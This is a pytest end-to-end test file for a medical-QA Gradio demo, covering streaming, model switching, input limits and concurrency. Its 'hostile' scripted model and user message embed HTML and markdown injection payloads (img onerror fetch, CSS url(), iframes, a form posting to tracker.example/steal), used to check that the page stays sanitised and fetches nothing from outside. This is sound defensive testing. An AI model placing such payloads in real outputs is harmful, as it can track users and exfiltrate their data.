"""End to end: `medqa demo` and the Space app served from tiny Qwen3 checkpoints, used the way people
and programs use them: headless Chromium (Debian's `chromium`, driven by playwright) and gradio_client.

Screenshots go to test-artifacts/demo/ at the repository root (git-ignored); the test prints the paths.
"""

from __future__ import annotations

import os
import re
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from pathlib import Path

import pytest
from scripted_model import build_scripted_checkpoint

REPO_ROOT = Path(__file__).resolve().parent.parent
ARTIFACTS = REPO_ROOT / "test-artifacts" / "demo"
CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
SCRIPTED_THINK, SCRIPTED_ANSWER = "先判断是否危急", "建议及时就医"
# A model that tries every way to make the page load something from outside (or show a form), in its
# thinking, in a second think block and in its answer. Each piece is one added token of the scripted
# checkpoint, so tags and quotes may repeat inside it.
OUTSIDE = "http://tracker.example"
# One token, so the think tags inside it do not repeat the chain's own.
HOSTILE_THINK = (
    f'想一想 <img src="{OUTSIDE}/think.png"> ![t]({OUTSIDE}/think-md.png) <a href="{OUTSIDE}/t">t</a>'
    f"</think>草稿 <img src={OUTSIDE}/draft.png><think>"
    f'再想 <div style="background:url({OUTSIDE}/css.png)">css</div> <svg><image href="{OUTSIDE}/svg.png"/></svg>'
)
HOSTILE_ANSWER = (
    f'最终回答 <img srcset="{OUTSIDE}/srcset.png 2x" src="{OUTSIDE}/a.png" onerror="fetch(\'{OUTSIDE}/js\')">'
    f" ![m]({OUTSIDE}/md.png) ![r][ref] [链接]({OUTSIDE}/link) <{OUTSIDE}/autolink>"
    f'\n\n[ref]: {OUTSIDE}/ref.png\n\n<form action="{OUTSIDE}/steal"><input name="id"><button>提交</button></form>'
    f"<style>body{{background:url({OUTSIDE}/style.png)}}</style><link rel=stylesheet href={OUTSIDE}/x.css>"
    f"<iframe src={OUTSIDE}/frame></iframe><video poster={OUTSIDE}/poster.png></video>"
    f"<picture><source srcset={OUTSIDE}/source.png></picture>"
)
HOSTILE_USER = (
    f'<img src="{OUTSIDE}/user.png"> ![u]({OUTSIDE}/user-md.png) <form action={OUTSIDE}/u><input></form>'
    f'<p style="background-image:url({OUTSIDE}/user-css.png)">我头痛</p>'
)
MAX_INPUT_CHARS = 300
READY_TIMEOUT_S = 180  # generous: CI shares two cores with everything else
REPLY_TIMEOUT_MS = 90_000
# Records every text the latest reply shows, to see it arrive in steps rather than all at once.
RECORD_REPLY_STATES = """() => {
  window.medqaReplyStates = new Set();
  const chat = document.querySelector('#medqa-chatbot');
  new MutationObserver(() => {
    const rows = chat.querySelectorAll('.bot-row');
    if (rows.length) window.medqaReplyStates.add(rows[rows.length - 1].innerText);
  }).observe(chat, {subtree: true, childList: true, characterData: true});
}"""


def build_lora_adapter(tiny_dir: Path, out: Path) -> Path:
    """A freshly initialised LoRA adapter on the tiny Qwen3: the shape `recipes/sft.py` saves."""
    from peft import LoraConfig, get_peft_model
    from transformers import AutoModelForCausalLM

    model = AutoModelForCausalLM.from_pretrained(tiny_dir)
    get_peft_model(model, LoraConfig(r=4, target_modules=["q_proj", "v_proj"])).save_pretrained(out)
    return out


# (tag, attribute, text) of every element in the chat whose resource attributes or stylesheet name the
# outside host (text and aria-labels may quote it: they load nothing).
NAMING_OUTSIDE = """() => [...document.querySelectorAll('#medqa-chatbot *')].flatMap(e => [
  ...[...e.attributes]
    .filter(a => /^(src|srcset|href|xlink:href|action|formaction|poster|style|data|background)$/.test(a.name))
    .filter(a => a.value.includes('tracker.example')).map(a => [e.tagName, a.name, e.textContent]),
  ...(e.tagName === 'STYLE' && e.textContent.includes('tracker.example') ? [[e.tagName, '', e.textContent]] : []),
])"""


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def answers_http(url: str) -> bool:
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))  # loopback never via a proxy
    try:
        with opener.open(url, timeout=2) as response:
            return response.status == 200
    except OSError:
        return False


@contextmanager
def serving(
    command: list[str], port: int, log_path: Path, env: dict[str, str] | None = None
) -> Iterator[str]:
    """Run a server until it answers on `port`, yield its URL, and always stop it afterwards."""
    url = f"http://127.0.0.1:{port}/"
    with open(log_path, "wb") as log:
        process = subprocess.Popen(command, cwd=REPO_ROOT, env=env, stdout=log, stderr=subprocess.STDOUT)
        try:
            deadline = time.monotonic() + READY_TIMEOUT_S
            while not answers_http(url):
                if process.poll() is not None or time.monotonic() > deadline:
                    log_tail = log_path.read_text(encoding="utf-8", errors="replace")[-4000:]
                    pytest.fail(
                        f"{command[1:3]} did not serve {url} (exit code {process.poll()}):\n{log_tail}"
                    )
                time.sleep(0.5)
            yield url
        finally:
            process.terminate()
            try:
                process.wait(timeout=15)
            except subprocess.TimeoutExpired:
                process.kill()
                process.wait()


@pytest.fixture(scope="module")
def demo_url(tiny_model_dir, tmp_path_factory) -> Iterator[str]:
    """`medqa demo` offering a scripted "full" model, the random tiny "base" and a LoRA adapter on it.

    Three choices and the default of two models in memory: switching also exercises reloading."""
    work = tmp_path_factory.mktemp("demo")
    scripted = build_scripted_checkpoint(
        tiny_model_dir, work / "scripted", f"<think>{SCRIPTED_THINK}</think>{SCRIPTED_ANSWER}"
    )
    adapter = build_lora_adapter(tiny_model_dir, work / "lora")
    hostile = build_scripted_checkpoint(
        tiny_model_dir,
        work / "hostile",
        f"<think>{HOSTILE_THINK}</think>{HOSTILE_ANSWER}",
        added_tokens=[HOSTILE_THINK, HOSTILE_ANSWER],
    )
    port = free_port()
    command = [sys.executable, "-m", "medqa.cli", "demo", "--model", f"full={scripted}"]
    command += [
        "--model",
        f"base={tiny_model_dir}",
        "--model",
        f"lora={adapter}",
        "--model",
        f"hostile={hostile}",
        "--base",
        str(tiny_model_dir),
    ]
    command += ["--port", str(port), "--max-new-tokens", "24"]
    command += ["--max-input-chars", str(MAX_INPUT_CHARS), "--concurrency-limit", "2"]
    with serving(command, port, work / "demo.log") as url:
        yield url


def ask(page, question: str) -> None:
    page.fill("#medqa-input textarea", question)
    page.keyboard.press("Enter")


def wait_until_idle(page) -> None:
    """The send button comes back (in place of the stop button) once a reply has finished."""
    from playwright.sync_api import expect

    expect(page.get_by_role("button", name="发送 / Send")).to_be_visible(timeout=REPLY_TIMEOUT_MS)


@pytest.mark.browser
def test_browser_chat_streams_reasoning_switches_models_stops_and_warns(demo_url):
    if not CHROMIUM.exists():
        pytest.fail(f"{CHROMIUM} is missing: run `make system-deps` (Debian package `chromium`)")
    from playwright.sync_api import expect, sync_playwright

    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    external: list[str] = []

    def local_only(route) -> None:
        if route.request.url.startswith(demo_url.rstrip("/")):
            route.continue_()
        else:
            external.append(route.request.url)
            route.abort()

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            page = browser.new_page(viewport={"width": 1280, "height": 1000})
            page.route("**/*", local_only)
            page.goto(demo_url)
            disclaimer = page.locator("#medqa-disclaimer")
            expect(disclaimer).to_contain_text("For research and education only", timeout=60_000)
            expect(disclaimer).to_contain_text("120")
            banner = page.locator("#medqa-emergency")
            expect(banner).to_be_hidden()
            chat = page.locator("#medqa-chatbot")
            expect(chat.get_by_text("🩺").first).to_be_visible()  # gold examples
            expect(chat.get_by_text("🚨").first).to_be_visible()  # red-team examples

            page.evaluate(RECORD_REPLY_STATES)
            ask(page, "我最近总是头痛，怎么办？")
            expect(chat.locator(".bot-row").last).to_contain_text(SCRIPTED_ANSWER, timeout=REPLY_TIMEOUT_MS)
            wait_until_idle(page)
            reply_states = page.evaluate("() => window.medqaReplyStates.size")
            print(f"\nreply texts seen while streaming: {reply_states}")
            assert reply_states >= 2  # at least the pending "thinking" placeholder, then the reply
            thought = chat.locator(".thought-group").last
            expect(thought).to_contain_text("Thinking")
            expect(thought).not_to_contain_text(SCRIPTED_ANSWER)  # the answer is a message of its own
            thought.locator(".title").click()  # collapsed once done; opens on click
            expect(thought).to_contain_text(SCRIPTED_THINK)
            expect(banner).to_be_hidden()

            page.click("#medqa-model input")
            page.get_by_role("option", name="base").click()
            expect(page.locator("#medqa-model input")).to_have_value("base")
            ask(page, "我胸痛，喘不上气，怎么办？")
            expect(banner).to_be_visible(timeout=REPLY_TIMEOUT_MS)
            expect(banner).to_contain_text("120")
            expect(banner).to_contain_text("喘不上气")
            expect(chat.locator(".bot-row")).to_have_count(2, timeout=REPLY_TIMEOUT_MS)
            wait_until_idle(page)
            expect(chat.locator(".bot-row").last).not_to_contain_text(SCRIPTED_ANSWER)  # another model spoke
            screenshot = ARTIFACTS / "demo-chat.png"
            page.screenshot(path=str(screenshot), full_page=True)
            print(f"screenshot: {screenshot}")

            page.get_by_text("生成设置 / Generation settings").click()
            page.fill("#medqa-max-new-tokens input[type=number]", "1500")
            page.keyboard.press("Tab")
            ask(page, "请详细解释高血压的长期管理。")
            page.get_by_role("button", name="停止 / Stop").click(timeout=REPLY_TIMEOUT_MS)
            wait_until_idle(page)
            expect(chat.locator(".bot-row")).to_have_count(3)

            ask(page, "头" * (MAX_INPUT_CHARS + 1))
            # the warning is a server round-trip: on a loaded machine it can take longer than expect's 5 s default
            expect(page.locator("#medqa-input")).to_contain_text(
                f"the limit is {MAX_INPUT_CHARS}", timeout=REPLY_TIMEOUT_MS
            )
            assert len(page.input_value("#medqa-input textarea")) == MAX_INPUT_CHARS + 1  # kept to edit
            expect(chat.locator(".bot-row")).to_have_count(3)  # nothing was sent
            limit_screenshot = ARTIFACTS / "demo-input-limit.png"
            page.screenshot(path=str(limit_screenshot), full_page=True)
            print(f"screenshot: {limit_screenshot}")
        finally:
            browser.close()
    assert external == [], f"the page tried to reach the network: {external}"


@pytest.mark.browser
def test_browser_loads_nothing_from_outside_for_hostile_model_and_user_text(demo_url):
    """Images, links, CSS url(), srcset, forms and a second think block, in the answer, the thinking and
    the user's message: the page makes zero requests to other hosts and shows no form."""
    if not CHROMIUM.exists():
        pytest.fail(f"{CHROMIUM} is missing: run `make system-deps` (Debian package `chromium`)")
    from playwright.sync_api import expect, sync_playwright

    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    requests: list[str] = []
    outside: list[str] = []

    def count(route) -> None:
        requests.append(route.request.url)
        if route.request.url.startswith(demo_url.rstrip("/")):
            route.continue_()
        else:
            outside.append(route.request.url)
            route.abort()

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            page = browser.new_page(viewport={"width": 1280, "height": 1400})
            page.route("**/*", count)
            response = page.goto(demo_url)
            assert "img-src 'self'" in response.headers["content-security-policy"]
            expect(page.locator("#medqa-disclaimer")).to_contain_text("120", timeout=60_000)
            page.click("#medqa-model input")
            page.get_by_role("option", name="hostile").click()
            expect(page.locator("#medqa-model input")).to_have_value("hostile")
            ask(page, HOSTILE_USER)
            chat = page.locator("#medqa-chatbot")
            expect(chat.locator(".bot-row").last).to_contain_text("最终回答", timeout=REPLY_TIMEOUT_MS)
            wait_until_idle(page)
            expect(chat).to_contain_text("Several reasoning blocks")  # flagged
            thought = chat.locator(".thought-group").first
            thought.locator(".title").click()
            expect(thought).to_contain_text("想一想")
            expect(thought).to_contain_text("再想")  # the second block is there too, not hiding the answer
            expect(chat.locator(".bot-row").last).to_contain_text(
                '<form action="http://tracker.example/steal">'
            )
            expect(chat.locator(".user-row").last).to_contain_text("我头痛")
            page.wait_for_timeout(1500)  # give lazy images and late fetches their chance
            for selector in (
                "img",
                "[srcset]",
                "form",
                "input",
                "iframe",
                "video",
                "picture",
                "svg image",
                "link",
            ):
                assert chat.locator(f".message-content {selector}").count() == 0, selector
            # What still names the outside host: only bare URLs, shown as themselves (never fetched).
            naming = page.evaluate(NAMING_OUTSIDE)
            print(f"\nelements naming {OUTSIDE}: {naming}")
            assert all(tag == "A" and text.startswith(OUTSIDE) for tag, _, text in naming), naming
            screenshot = ARTIFACTS / "demo-hostile.png"
            page.screenshot(path=str(screenshot), full_page=True)
            print(f"\nscreenshot: {screenshot}; {len(requests)} requests, all to {demo_url}")
        finally:
            browser.close()
    assert requests, "the route saw no request at all: it would count nothing"
    assert outside == [], f"the page tried to reach other hosts: {outside}"


def test_eight_concurrent_gradio_client_sessions(demo_url):
    from gradio_client import Client

    def session(index: int):
        client = Client(demo_url, verbose=False)
        model = ("full", "base", "lora")[index % 3]
        job = client.submit(
            f"第{index}个问题：咳嗽三天了怎么办？", model, True, 0.7, 0.9, 16, api_name="/chat"
        )
        first_reply, _ = job.result(timeout=REPLY_TIMEOUT_MS / 1000)
        follow_up, _ = client.predict("还需要注意什么？", model, False, 0.7, 0.9, 8, api_name="/chat")
        return model, first_reply, len(job.outputs()), follow_up

    started = time.monotonic()
    with ThreadPoolExecutor(8) as pool:
        futures = [pool.submit(session, index) for index in range(8)]
        results = [future.result(timeout=300) for future in futures]
    print(f"\n8 sessions x 2 turns in {time.monotonic() - started:.1f}s")
    for model, first_reply, updates, follow_up in results:
        assert updates >= 2  # streamed: the placeholder first, then the reply
        assert first_reply and follow_up
        assert all(message["role"] == "assistant" for message in first_reply + follow_up)
        if model == "full":
            assert first_reply[0]["metadata"]["title"] and first_reply[-1]["content"] == SCRIPTED_ANSWER


def test_over_long_input_gets_the_limit_message(demo_url):
    from gradio_client import Client
    from gradio_client.exceptions import AppError

    client = Client(demo_url, verbose=False)
    with pytest.raises(AppError, match=f"Input too long: {MAX_INPUT_CHARS + 1} characters"):
        client.predict("痛" * (MAX_INPUT_CHARS + 1), "full", True, 0.7, 0.9, 8, api_name="/chat")


def test_staged_space_starts_with_only_its_documented_environment(tiny_model_dir, tmp_path):
    """What `medqa push-space` uploads runs on its own: app.py beside its copy of the medqa package."""
    from gradio_client import Client

    from medqa.space import stage_space

    readme = (REPO_ROOT / "spaces_app" / "README.md").read_text(encoding="utf-8")
    documented = set(re.findall(r"^\| `([A-Z_]+)`", readme, re.M))
    port = free_port()
    app_env = {
        "MEDQA_MODELS": f"tiny={tiny_model_dir}",
        "MEDQA_MAX_NEW_TOKENS": "8",
        "GRADIO_SERVER_NAME": "127.0.0.1",
        "GRADIO_SERVER_PORT": str(port),
        "HF_HUB_OFFLINE": "1",
    }
    assert set(app_env) <= documented
    system = {name: os.environ[name] for name in ("PATH", "HOME", "LANG", "TMPDIR") if name in os.environ}
    command = [sys.executable, str(stage_space(tmp_path / "space") / "app.py")]
    with serving(command, port, tmp_path / "space.log", env=system | app_env) as url:
        reply, _ = Client(url, verbose=False).predict("你好", "tiny", True, 0.7, 0.9, 8, api_name="/chat")
    assert reply and reply[-1]["role"] == "assistant"
